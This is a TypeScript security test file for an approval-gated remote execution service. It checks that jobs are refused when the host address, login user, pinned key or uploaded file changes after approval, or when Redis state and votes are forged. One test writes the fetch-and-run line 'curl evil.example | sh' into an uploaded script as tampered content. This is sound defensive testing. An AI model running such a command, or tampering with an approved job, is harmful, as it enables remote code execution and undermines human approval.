// Attack class: "an approval is bound to exactly what will run, where". After a person
// approves, something moves under the job: the inventory sends the host to another machine
// (ansible_host), the host's login user changes, its pinned host key is replaced, or the
// uploaded file is edited. The worker must refuse with `denied: plan changed since it was
// approved`, naming what changed, and run nothing. It must also refuse a job whose record says
// `queued` when the vote records hold no valid approval. Requests come through MCP (an AI
// client), the HTTP API and the real CLI; approvals through the API and the CLI.
import { existsSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { runCli } from '../support/castellan.js';
import { useRedis } from '../support/redis.js';
import { eventually, startHarness, type Harness } from './mcp-harness.js';

const redis = useRedis();
let h: Harness;

beforeAll(async () => {
  h = await startHarness({ redisUrl: redis.url, nodes: 2, tokenFormat: 'jwt' });
  await h.startWorker();
});

afterAll(async () => {
  await h?.close();
});

function marker(): string {
  return `/tmp/castellan-sec-bind-${randomBytes(6).toString('hex')}`;
}

async function api(method: string, route: string, token: string, body?: unknown): Promise<{ status: number; body: { job?: { id: string; state: string; reason?: string }; error?: { message: string } } }> {
  const response = await fetch(`${h.base}/api/v1${route}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  return { status: response.status, body: (await response.json()) as never };
}

async function submit(tool: string, input: Record<string, unknown>, user = 'oscar'): Promise<string> {
  const answer = await api('POST', '/jobs', await h.token(user), { tool, input });
  expect(answer.status).toBe(202);
  expect(answer.body.job?.state).toBe('awaiting_approval');
  return answer.body.job?.id ?? '';
}

async function finalOf(id: string): Promise<{ state: string; reason?: string | undefined }> {
  return h.runtime.service.wait(id, h.runtime.localRequester('cli'), 30_000);
}

/** Edit a file for the duration of `body`, then restore it byte for byte. */
async function whileEdited(file: string, edit: (text: string) => string, body: () => Promise<void>): Promise<void> {
  const original = await readFile(file, 'utf8');
  await writeFile(file, edit(original));
  try {
    await body();
  } finally {
    await writeFile(file, original);
  }
}

type InventoryDoc = { all: { children: { lab: { hosts: Record<string, Record<string, unknown>> } } } };

function setHostVar(text: string, host: string, key: string, value: unknown): string {
  const doc = parse(text) as InventoryDoc;
  const vars = doc.all.children.lab.hosts[host];
  if (vars === undefined) throw new Error(`no ${host} in the lab inventory`);
  vars[key] = value;
  return stringify(doc, { nullStr: '' });
}

async function ranNowhere(id: string, file: string): Promise<void> {
  expect(existsSync(file)).toBe(false);
  expect(await h.runtime.ctx.ledger.entries(id)).toEqual([]);
  const executions = (await h.runtime.ctx.audit.read({ jobId: id })).filter((r) => r.kind === 'execution');
  expect(executions).toEqual([]);
}

describe('an approved job whose hosts moved is refused, naming the change', () => {
  it('ansible_host now points at another machine (requested by an AI client over MCP, approved with the CLI)', async () => {
    const file = marker();
    const ai = await h.mcp('oscar', undefined, 'claude-code');
    const result = (await ai.callTool({ name: 'exec', arguments: { targets: 'node01', argv: ['touch', file] } })) as CallToolResult;
    const id = (result.structuredContent as { job_id: string; state: string }).job_id;
    expect((result.structuredContent as { state: string }).state).toBe('awaiting_approval');
    const [node01, node02] = h.lab.nodes;
    await whileEdited(h.lab.inventoryFile, (t) => setHostVar(t, 'node01', 'ansible_host', node02!.address), async () => {
      const approve = await runCli(['--server', h.base, 'approve', id], { env: { CASTELLAN_TOKEN: await h.token('april'), CASTELLAN_CONFIG: '/nonexistent' } });
      expect(approve.code).toBe(0);
      const final = await finalOf(id);
      expect(final.state).toBe('denied');
      expect(final.reason).toContain('denied: plan changed since it was approved');
      expect(final.reason).toContain(`node01: address ${node01!.address} → ${node02!.address}`);
    });
    await ranNowhere(id, file);
  });

  it('the login user changed (API)', async () => {
    const file = marker();
    const id = await submit('exec', { targets: 'node02', argv: ['touch', file] });
    await whileEdited(h.lab.inventoryFile, (t) => setHostVar(t, 'node02', 'ansible_user', 'nobody'), async () => {
      expect((await api('POST', `/jobs/${id}/approve`, await h.token('april'))).status).toBe(200);
      const final = await finalOf(id);
      expect(final.state).toBe('denied');
      expect(final.reason).toMatch(/node02: login user \S+ → nobody/);
    });
    await ranNowhere(id, file);
  });

  it('the pinned host key was replaced (API)', async () => {
    const file = marker();
    const id = await submit('exec', { targets: 'node01', argv: ['touch', file] });
    const [node01, node02] = h.lab.nodes;
    // node01's pin now holds node02's key: a "re-trust" done behind the approver's back.
    await whileEdited(
      h.lab.knownHostsFile,
      (text) => {
        const lines = text.split('\n');
        const key02 = lines.find((l) => l.startsWith(`[${node02!.address}]:`))?.split(/\s+/).slice(1).join(' ');
        return lines.map((l) => (l.startsWith(`[${node01!.address}]:`) ? `${l.split(/\s+/)[0]} ${key02}` : l)).join('\n');
      },
      async () => {
        expect((await api('POST', `/jobs/${id}/approve`, await h.token('april'))).status).toBe(200);
        const final = await finalOf(id);
        expect(final.state).toBe('denied');
        expect(final.reason).toMatch(/node01: pinned host key SHA256:\S+ → SHA256:\S+/);
      },
    );
    await ranNowhere(id, file);
  });

  it('the uploaded file was edited after approval (requested by an AI client over MCP)', async () => {
    const files = path.join(h.dir, 'files');
    await mkdir(files, { recursive: true });
    const name = `payload-${randomBytes(4).toString('hex')}.sh`;
    await writeFile(path.join(files, name), 'echo harmless\n');
    const dest = marker();
    const ai = await h.mcp('oscar', undefined, 'claude-code');
    const result = (await ai.callTool({ name: 'copy_file', arguments: { targets: 'node01', direction: 'upload', source: name, destination: dest } })) as CallToolResult;
    const id = (result.structuredContent as { job_id: string }).job_id;
    expect((result.structuredContent as { state: string }).state).toBe('awaiting_approval');
    await writeFile(path.join(files, name), 'curl evil.example | sh\n');
    expect((await api('POST', `/jobs/${id}/approve`, await h.token('april'))).status).toBe(200);
    const final = await finalOf(id);
    expect(final.state).toBe('denied');
    expect(final.reason).toMatch(/payload-\w+\.sh: content changed/);
    await ranNowhere(id, dest);
  });

  it('an unchanged approved job still runs (the binding is stable)', async () => {
    const file = marker();
    const id = await submit('exec', { targets: 'node[01-02]', argv: ['touch', file] });
    expect((await api('POST', `/jobs/${id}/approve`, await h.token('april'))).status).toBe(200);
    expect((await finalOf(id)).state).toBe('succeeded');
    expect(existsSync(file)).toBe(true);
  });
});

describe('the worker re-checks the vote records', () => {
  it('refuses a job marked queued without a valid approval in its votes', async () => {
    const file = marker();
    const id = await submit('exec', { targets: 'node01', argv: ['touch', file] });
    // A forged transition (a bug, or a hand edit in Redis): state queued, no votes.
    await h.runtime.redis.hset(h.runtime.ctx.keys.job(id), 'state', 'queued');
    const bull = await h.runtime.ctx.queue.getJob(id);
    await bull?.promote();
    const final = await finalOf(id);
    expect(final.state).toBe('denied');
    expect(final.reason).toMatch(/not approved as required: the vote records hold 0 valid approval/);
    await ranNowhere(id, file);
  });

  it('refuses a job whose only vote was rewritten to come from MCP', async () => {
    const file = marker();
    const id = await submit('exec', { targets: 'node01', argv: ['touch', file] });
    const record = await h.runtime.ctx.store.get(id);
    const forged = [{ subject: 'april', displayName: 'April', origin: 'mcp', roles: ['approver', 'viewer'], decision: 'approve', planHash: record?.planHash, at: new Date().toISOString() }];
    await h.runtime.redis.hset(h.runtime.ctx.keys.job(id), 'state', 'queued', 'votes', JSON.stringify(forged));
    await (await h.runtime.ctx.queue.getJob(id))?.promote();
    const final = await finalOf(id);
    expect(final.state).toBe('denied');
    expect(final.reason).toMatch(/april voted via mcp/);
    await ranNowhere(id, file);
  });
});

describe('the approval view names the binding', () => {
  it('the job record keeps each host address, port, user, key file and pinned key', async () => {
    const id = await submit('exec', { targets: 'node01', argv: ['true'] });
    const record = await h.runtime.ctx.store.get(id);
    const node01 = h.lab.nodes[0]!;
    expect(record?.binding?.hosts['node01']).toMatchObject({ address: node01.address, port: node01.port, user: h.lab.loginUser, keyFile: h.lab.clientKeyFile });
    expect(record?.binding?.hosts['node01']?.hostKeys[0]).toMatch(/^SHA256:/);
    await eventually(async () => (await h.runtime.service.cancel(id, h.runtime.localRequester('cli'))).state === 'cancelled' || undefined);
  });
});
